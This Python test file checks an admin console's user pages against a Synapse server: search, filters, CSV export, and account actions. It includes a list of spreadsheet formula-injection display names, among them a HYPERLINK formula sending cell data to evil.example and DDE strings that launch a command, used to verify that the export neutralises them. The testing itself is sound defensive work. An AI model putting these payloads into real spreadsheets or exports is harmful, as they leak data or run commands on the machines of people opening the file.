# SPDX-License-Identifier: AGPL-3.0-or-later
"""The user pages against the real appliance: Admin API search and pages, a user's page, and
every action, checked in Synapse itself afterwards.
"""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import quote

import requests
from console_helpers import Console, register_external, unique, user_path

from admin_console.users import export as user_csv


# The list ------------------------------------------------------------------------------------
def test_search_finds_by_name_and_pages_server_side(console, synapse):
    tag = unique("pager")
    created = [
        synapse.create_user(f"{tag}-{n}", f"Agent {tag} {n} [ac-paris.fr]") for n in range(3)
    ]
    page = console.get(f"/users/?q={tag}")
    assert all(user_id in page for user_id in created)
    assert 'rel="next"' not in page and 'rel="prev"' not in page  # one page holds them all
    # A page smaller than the matches links to the next one by the module's cursor, and back.
    from admin_console.users import views

    views_page_size, views.PAGE_SIZE = views.PAGE_SIZE, 2
    try:
        first = console.get(f"/users/?q={tag}")
        assert sum(user_id in first for user_id in created) == 2
        next_link = re.search(r'rel="next" href="([^"]+)"', first).group(1).replace("&amp;", "&")
        second = console.get(next_link)
        assert sum(user_id in second for user_id in created) == 1
        prev_link = re.search(r'rel="prev" href="([^"]+)"', second).group(1).replace("&amp;", "&")
        back = console.get(prev_link)
        assert [u for u in created if u in back] == [u for u in created if u in first]
    finally:
        views.PAGE_SIZE = views_page_size


def test_filters_externals_agents_admins(console, synapse, appliance):
    tag = unique("filter")
    agent = synapse.create_user(f"{tag}-agent", f"Agent {tag} [ac-paris.fr]")
    external = register_external(appliance, tag)
    externals = console.get(f"/users/?kind=externals&q={tag}")
    assert external in externals and agent not in externals
    assert 'class="tag external"' in externals
    agents = console.get(f"/users/?kind=agents&q={tag}")
    assert agent in agents and external not in agents
    # Without search text, the externals filter lists the module's record of externals.
    assert external in console.get("/users/?kind=externals")
    admins = console.get("/users/?kind=admins")
    assert "@appliance-console:" in admins and agent not in admins


# Display names a user gives themselves, one per OWASP formula prefix that Synapse keeps at the
# start of a display name: it strips whitespace around one, so TAB and CR cannot lead it (the
# audit export's test covers them, typed as a username on the login page).
HOSTILE_DISPLAY_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "-1\r+1",
)


def test_user_export_has_every_page_and_no_cell_is_a_formula(console, synapse, monkeypatch):
    monkeypatch.setattr(user_csv, "PAGE_SIZE", 4)  # so that the export crosses pages
    tag = unique("csv")
    names = {}
    for n, hostile in enumerate(HOSTILE_DISPLAY_NAMES):
        # Through the Admin API: agents cannot give themselves such names (tests/test_names.py),
        # an operator can, and the export must hold whatever Synapse stores.
        user_id = synapse.create_user(f"{tag}-{n}", hostile, f"{tag}-{n}@ac-paris.fr")
        assert synapse.user(user_id)["displayname"] == hostile
        names[user_id] = hostile

    export = console.client.get(f"/users/export.csv?kind=all&q={tag}")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True), newline="")))
    assert rows[0] == list(user_csv.COLUMNS)
    # A Matrix ID starts with @, a formula prefix too: it is neutralised like any other cell.
    exported = {row[0].removeprefix("'@"): row for row in rows[1:] if row[0].startswith("'@")}
    assert set(exported) == {user_id[1:] for user_id in names}  # six, across pages, once each
    assert len(rows) == 1 + len(names)
    for user_id, hostile in names.items():
        assert exported[user_id[1:]][1] == "'" + hostile
        email = f"{user_id[1:].split(':')[0]}@ac-paris.fr"
        assert exported[user_id[1:]][2:6] == [email, "agent", "no", "active"]
    assert f"kind=all q={tag}" in console.get("/audit/?q=user.export")


def test_empty_search_says_so(console):
    assert "No user matches this search." in console.get(f"/users/?q={unique('nobody')}")


# One user ------------------------------------------------------------------------------------
def test_user_page_shows_emails_devices_rooms_and_kind(console, synapse):
    tag = unique("page")
    user_id = synapse.create_user(tag, f"Page {tag} [ac-paris.fr]", f"{tag}@ac-paris.fr")
    token = synapse.login(user_id)
    room_id = requests.post(
        f"{synapse.url}/_matrix/client/v3/createRoom",
        json={"name": f"Room of {tag}"},
        headers={"Authorization": f"Bearer {token}"},
        timeout=30,
    ).json()["room_id"]
    page = console.get(user_path(user_id))
    assert f"{tag}@ac-paris.fr" in page
    devices = synapse.call("GET", f"/_synapse/admin/v2/users/{quote(user_id)}/devices")["devices"]
    assert devices and all(device["device_id"] in page for device in devices)
    assert f"Room of {tag}" in page and f"/rooms/{room_id}" in page
    assert ">agent<" in page


def test_external_by_email_domain_when_the_allowlist_is_known(console, synapse):
    tag = unique("ext")
    user_id = synapse.create_user(tag, f"Someone {tag}", f"{tag}@example.com")
    page = console.get(user_path(user_id))
    assert 'class="tag external"' in page


# Actions -------------------------------------------------------------------------------------
def test_deactivate_asks_first_then_deactivates_with_erase_and_audits(console, synapse):
    tag = unique("deact")
    user_id = synapse.create_user(tag, f"Gone {tag} [ac-paris.fr]", f"{tag}@ac-paris.fr")
    asked = console.post(f"{user_path(user_id)}/deactivate", erase="y")
    assert "Deactivate" in asked.get_data(as_text=True)
    assert not synapse.user(user_id)["deactivated"]  # only asked so far
    cancel = re.search(r'<a href="([^"]+)">Cancel</a>', asked.get_data(as_text=True)).group(1)
    assert f"Gone {tag}" in console.get(cancel)  # Cancel leads back to the user
    console.post(f"{user_path(user_id)}/deactivate", erase="y", confirmed="yes")
    state = synapse.user(user_id)
    assert state["deactivated"] and state["erased"]
    audit = console.get(f"/audit/?q={quote(user_id)}")
    assert "user.deactivate.erase" in audit and user_id in audit


def test_reactivate_with_new_password_and_email(console, synapse):
    tag = unique("react")
    user_id = synapse.create_user(tag, f"Back {tag} [ac-paris.fr]", f"{tag}@ac-paris.fr")
    synapse.call("POST", f"/_synapse/admin/v1/deactivate/{quote(user_id)}", {"erase": False})
    synapse.wait_for_background_updates()
    new_password = "Reactivated-Passw0rd"
    console.post(
        f"{user_path(user_id)}/reactivate", password=new_password, email=f"{tag}@ac-paris.fr"
    )
    state = synapse.user(user_id)
    assert not state["deactivated"]
    assert [t["address"] for t in state["threepids"]] == [f"{tag}@ac-paris.fr"]
    assert synapse.login(user_id, new_password)


def test_reactivation_applies_synapses_password_policy_and_the_address_rules(console, synapse):
    tag = unique("policy")
    user_id = synapse.create_user(tag, f"Policy {tag} [ac-paris.fr]", f"{tag}@ac-paris.fr")
    synapse.call("POST", f"/_synapse/admin/v1/deactivate/{quote(user_id)}", {"erase": False})
    for password, email, reason in (
        ("aaaaaaaaaa", "", "the password lacks a digit, an upper-case letter"),
        ("Sh0rt-Pw", "", "Field must be between 10 and 256 characters long."),
        ("Reactivated-Passw0rd", f"{tag} @ac-paris.fr", "the address contains whitespace"),
    ):
        console.post(f"{user_path(user_id)}/reactivate", password=password, email=email)
        assert reason in console.get(user_path(user_id)), password
        assert synapse.user(user_id)["deactivated"]


def test_admin_suspend_shadow_ban_round_trips(console, synapse):
    user_id = synapse.create_user(unique("flags"), "Flags [ac-paris.fr]")
    path = user_path(user_id)
    console.confirm(f"{path}/admin/grant")
    assert synapse.user(user_id)["admin"]
    console.post(f"{path}/admin/revoke")
    assert not synapse.user(user_id)["admin"]
    console.confirm(f"{path}/suspend")
    assert synapse.user(user_id)["suspended"]
    console.post(f"{path}/unsuspend")
    assert not synapse.user(user_id)["suspended"]
    console.confirm(f"{path}/shadowban")
    assert synapse.user(user_id)["shadow_banned"]
    console.post(f"{path}/unshadowban")
    assert not synapse.user(user_id)["shadow_banned"]


def test_log_out_everywhere_ends_every_session(console, synapse):
    user_id = synapse.create_user(unique("logout"), "Logout [ac-paris.fr]")
    tokens = [synapse.login(user_id), synapse.login(user_id)]
    console.confirm(f"{user_path(user_id)}/logout")
    for token in tokens:
        whoami = requests.get(
            f"{synapse.url}/_matrix/client/v3/account/whoami",
            headers={"Authorization": f"Bearer {token}"},
            timeout=30,
        )
        assert whoami.status_code == 401
    assert "2 session(s) ended" in console.get(f"/audit/?q={quote(user_id)}")


def test_password_reset_mail_is_synapses_own(console, synapse, mail_sink):
    tag = unique("reset")
    address = f"{tag}@ac-paris.fr"
    user_id = synapse.create_user(tag, f"Reset {tag} [ac-paris.fr]", address)
    console.post(f"{user_path(user_id)}/password-reset")
    message = mail_sink.wait_for(address)
    text = "".join(
        part.get_payload(decode=True).decode()
        for part in message.walk()
        if part.get_content_type() == "text/plain"
    )
    assert "_synapse/client/password_reset/email/submit_token" in text


def test_password_reset_without_email_is_refused_with_reason(console, synapse):
    user_id = synapse.create_user(unique("noemail"), "No Email [ac-paris.fr]")
    response = console.post(f"{user_path(user_id)}/password-reset")
    page = console.get(user_path(user_id)) if response.status_code == 302 else ""
    assert "this account has no email address" in page


def test_actions_are_post_only_with_csrf(console, synapse):
    user_id = synapse.create_user(unique("csrf"), "Csrf [ac-paris.fr]")
    path = f"{user_path(user_id)}/deactivate"
    assert console.client.post(path, data={"confirmed": "yes"}).status_code == 400
    assert not synapse.user(user_id)["deactivated"]


def test_invitation_mail_for_allowed_domain_and_reasons_for_others(console, mail_sink):
    tag = unique("inv")
    probe = console.client.get("/users/invite")
    assert probe.status_code == 200
    response = console.post(
        "/users/invite",
        emails=f"{tag}@ac-paris.fr\n{tag}@example.com\nnot an address",
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 200, page  # 501 would mean the allowlist endpoint is missing
    assert "invitation sent" in page
    assert "example.com is not an allowed domain" in page
    assert "not a valid address" in page
    message = mail_sink.wait_for(f"{tag}@ac-paris.fr")
    assert f"{tag}@ac-paris.fr" in message.get_payload(decode=True).decode()


def test_synapse_down_gives_a_clear_page(app, tmp_path):
    app.config["SYNAPSE_URL"] = "http://127.0.0.1:9"  # discard port: nothing listens
    page = Console(app).get("/users/", status=503)
    assert "Synapse cannot be reached" in page and "connection refused" in page
